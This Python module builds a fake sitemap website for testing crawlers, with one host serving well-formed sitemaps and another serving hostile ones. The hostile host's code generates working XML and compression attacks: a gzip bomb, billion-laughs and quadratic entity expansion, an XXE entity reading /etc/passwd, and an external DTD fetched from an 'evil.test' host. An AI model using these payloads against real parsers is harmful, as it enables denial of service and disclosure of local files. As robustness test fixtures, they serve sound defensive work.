"""Sitemaps on the hostile web: a site that describes itself in them, and sitemaps that attack.

Pure: :func:`document` is the body of a path, :func:`route` the reply
:class:`localweb.hostile.server.HostileWeb` sends for it. Every ``loc`` is absolute,
so the documents are made for the port the web listens on (``port=0``
leaves the port out, as tests that parse them without a server do).

``sitemaps.test``, a site whose robots.txt names its index:

==========================  ===============================================
``/robots.txt``             ``Sitemap: /sitemap_index.xml`` (absolute), no rules
``/``                       links the pages of :data:`PAGES`, nothing else
``/sitemap_index.xml``      the index: ``/sitemap-pages.xml`` and the gzipped
                            ``/sitemap-hidden.xml.gz``, each with a ``lastmod``
``/sitemap-pages.xml``      :data:`PAGES` with lastmod, changefreq, priority
``/sitemap-hidden.xml.gz``  :data:`HIDDEN`: pages no page links to, reachable
                            ONLY through the sitemap (served ``application/gzip``)
``/sitemap.txt``            :data:`PAGES` as a text sitemap, and one ftp:// line
``/blog/sitemap.xml``       under ``/blog/``: two posts, and four URLs outside
                            its directory (``/about``, ``/blog-old/x``, https,
                            another port), which only robots.txt could grant
==========================  ===============================================

``bad-sitemaps.test``, whose robots.txt names each of these:

==========================  ===============================================
``/bomb.xml.gz``            a gzip bomb: one URL, then :data:`BOMB_MIB` MiB of
                            blanks (~1 KiB on the wire per MiB inflated)
``/sixty-thousand.xml``     60,000 URLs, 10,000 past the protocol's limit
``/billion-laughs.xml``     nested entities (10 levels of 10: 10^9 "lol")
``/quadratic.xml``          one 64 KiB entity referenced 4,096 times
``/xxe.xml``                an external entity: ``file:///etc/passwd``
``/external-dtd.xml``       a DOCTYPE naming a DTD on another host
``/wrong-host.xml``         :data:`WRONG_HOST_URLS` URLs, none of this host
``/sub/sitemap.xml``        under ``/sub/``: one URL inside, three outside
``/loop-a.xml``             an index listing itself and ``/loop-b.xml``,
``/loop-b.xml``             which lists ``/loop-a.xml``
``/deep.xml``               elements nested 100 deep
``/names.xml``              300 distinct element names
==========================  ===============================================

Every other path of both hosts is a small page.
"""

from __future__ import annotations

import zlib
from functools import lru_cache

from localweb.hostile.wire import Reply, html, reply

__all__ = [
    "BOMB_MIB", "HIDDEN", "HOSTILE_HOST", "HOSTILE_PATHS", "HOSTS", "PAGES", "SITEMAP_HOST",
    "WRONG_HOST_URLS", "document", "robots_txt", "route",
]

SITEMAP_HOST = "sitemaps.test"
HOSTILE_HOST = "bad-sitemaps.test"
HOSTS = (SITEMAP_HOST, HOSTILE_HOST)
#: Linked from ``/`` and listed by ``/sitemap-pages.xml``.
PAGES = tuple(f"/page/{i}" for i in range(5))
#: Listed only by ``/sitemap-hidden.xml.gz``: a crawl that reads no sitemap never finds them.
HIDDEN = tuple(f"/hidden/{i}" for i in range(5))
HOSTILE_PATHS = ("/bomb.xml.gz", "/sixty-thousand.xml", "/billion-laughs.xml", "/quadratic.xml",
                 "/xxe.xml", "/external-dtd.xml", "/wrong-host.xml", "/sub/sitemap.xml",
                 "/loop-a.xml", "/deep.xml", "/names.xml")
BOMB_MIB = 256
WRONG_HOST_URLS = 5

_NS = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'
_DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'


def _base(host: str, port: int) -> str:
    return f"http://{host}:{port}" if port else f"http://{host}"


def _urlset(entries: list[str]) -> bytes:
    return (_DECL + f"<urlset {_NS}>\n" + "".join(entries) + "</urlset>\n").encode()


def _index(entries: list[str]) -> bytes:
    return (_DECL + f"<sitemapindex {_NS}>\n" + "".join(entries) + "</sitemapindex>\n").encode()


def _url(loc: str, extra: str = "") -> str:
    return f"<url><loc>{loc}</loc>{extra}</url>\n"


def _sitemap(loc: str, lastmod: str = "") -> str:
    mod = f"<lastmod>{lastmod}</lastmod>" if lastmod else ""
    return f"<sitemap><loc>{loc}</loc>{mod}</sitemap>\n"


def robots_txt(host: str, port: int = 0) -> bytes:
    """The host's robots.txt: no rules, a ``Sitemap:`` line for each of its sitemaps."""
    base = _base(host, port)
    paths = ("/sitemap_index.xml",) if host == SITEMAP_HOST else HOSTILE_PATHS
    return ("User-agent: *\nDisallow:\n\n" + "".join(f"Sitemap: {base}{p}\n" for p in paths)).encode()


def _bomb(base: str) -> bytes:
    # The gzip_stream trick (localweb/hostile/wire.py): after Z_FULL_FLUSH the
    # compressor has no history, so 1 MiB of blanks compresses to the same
    # bytes each time and copies can be concatenated into a valid member.
    head = (_DECL + f"<urlset {_NS}>\n" + _url(f"{base}/bomb/0")).encode()
    blanks, tail = b" " * (1 << 20), b"</urlset>\n"
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
    segment = comp.compress(blanks) + comp.flush(zlib.Z_FULL_FLUSH)
    last = comp.compress(tail) + comp.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(BOMB_MIB):
        crc = zlib.crc32(blanks, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + (BOMB_MIB << 20) + len(tail)
    return (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + first + segment * BOMB_MIB + last
            + crc.to_bytes(4, "little") + (size & 0xFFFFFFFF).to_bytes(4, "little"))


def _good(path: str, base: str) -> bytes | None:
    if path == "/sitemap_index.xml":
        return _index([_sitemap(f"{base}/sitemap-pages.xml", "2024-05-01T12:00:00Z"),
                       _sitemap(f"{base}/sitemap-hidden.xml.gz", "2024-05-02")])
    if path == "/sitemap-pages.xml":
        return _urlset([_url(f"{base}{p}", f"<lastmod>2024-04-0{i + 1}</lastmod><changefreq>daily"
                                           f"</changefreq><priority>0.5</priority>")
                        for i, p in enumerate(PAGES)])
    if path == "/sitemap-hidden.xml.gz":
        doc = _urlset([_url(f"{base}{p}", "<lastmod>2024-04-30T08:30:00+02:00</lastmod>"
                                          "<changefreq>weekly</changefreq><priority>0.9</priority>")
                       for p in HIDDEN])
        return zlib.compress(doc, 9, wbits=31)
    if path == "/sitemap.txt":
        return "".join(f"{base}{p}\n" for p in PAGES).encode() + b"ftp://elsewhere.test/file\n"
    if path == "/blog/sitemap.xml":
        https, other_port = base.replace("http://", "https://", 1), base.split(":")[1] + ":9"
        return _urlset([_url(f"{base}/blog/post-1"), _url(f"{base}/blog/2024/post-2"),
                        _url(f"{base}/about"), _url(f"{base}/blog-old/x"),
                        _url(f"{https}/blog/x"), _url(f"http:{other_port}/blog/y")])
    return None


_LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))


def _hostile(path: str, base: str) -> bytes | None:
    if path == "/bomb.xml.gz":
        return _bomb(base)
    if path == "/sixty-thousand.xml":
        return _urlset([_url(f"{base}/many/{i}") for i in range(60_000)])
    if path == "/billion-laughs.xml":
        return (_DECL + f'<!DOCTYPE urlset [<!ENTITY lol0 "lol">{_LAUGHS}]>\n'
                f"<urlset {_NS}><url><loc>{base}/&lol9;</loc></url></urlset>\n").encode()
    if path == "/quadratic.xml":
        return (_DECL + f'<!DOCTYPE urlset [<!ENTITY a "{"a" * 65536}">]>\n'
                f"<urlset {_NS}><url><loc>{base}/{'&a;' * 4096}</loc></url></urlset>\n").encode()
    if path == "/xxe.xml":
        return (_DECL + '<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
                f"<urlset {_NS}><url><loc>{base}/&xxe;</loc></url></urlset>\n").encode()
    if path == "/external-dtd.xml":
        return (_DECL + '<!DOCTYPE urlset SYSTEM "http://dtd.evil.test/sitemap.dtd">\n'
                + _urlset([_url(f"{base}/external")]).decode().removeprefix(_DECL)).encode()
    if path == "/wrong-host.xml":
        https = base.replace("http://", "https://", 1)
        return _urlset([_url(u) for u in ("http://other.test/a", "http://other.test/b",
                                          "http://evil.test/a", f"{https}/a", "http://other.test/c")])
    if path == "/sub/sitemap.xml":
        return _urlset([_url(f"{base}/sub/page"), _url(f"{base}/other/page"),
                        _url(f"{base}/sub-not/page"), _url(f"{base}/page")])
    if path == "/loop-a.xml":
        return _index([_sitemap(f"{base}/loop-a.xml"), _sitemap(f"{base}/loop-b.xml")])
    if path == "/loop-b.xml":
        return _index([_sitemap(f"{base}/loop-a.xml")])
    if path == "/deep.xml":
        return _urlset(["<x>" * 100 + "</x>" * 100])
    if path == "/names.xml":
        return _urlset([f"<n{i}/>" for i in range(300)])
    return None


@lru_cache(maxsize=64)
def document(host: str, path: str, port: int = 0) -> bytes:
    """The body of ``path`` on ``host`` (a sitemap, robots.txt or a page); b"" for no such host."""
    base = _base(host, port)
    if path == "/robots.txt":
        return robots_txt(host, port)
    if host == SITEMAP_HOST:
        body = _good(path, base)
        if body is None and path == "/":
            return html(f"{host} index", PAGES)
    elif host == HOSTILE_HOST:
        body = _hostile(path, base)
    else:
        return b""
    return body if body is not None else html(f"{host} {path}", (), "a page")


def route(host: str, path: str, port: int = 0) -> Reply | None:
    """The reply of a sitemap host, or None if ``host`` is not one of them."""
    if host not in HOSTS:
        return None
    body = document(host, path, port)
    if path == "/robots.txt" or path.endswith(".txt"):
        ctype = "text/plain; charset=utf-8"
    elif path.endswith(".gz"):
        ctype = "application/gzip"  # the file is gzip; no Content-Encoding, as servers send .gz files
    elif path.endswith(".xml"):
        ctype = "application/xml"
    else:
        ctype = "text/html; charset=utf-8"
    return reply(200, body, content_type=ctype)
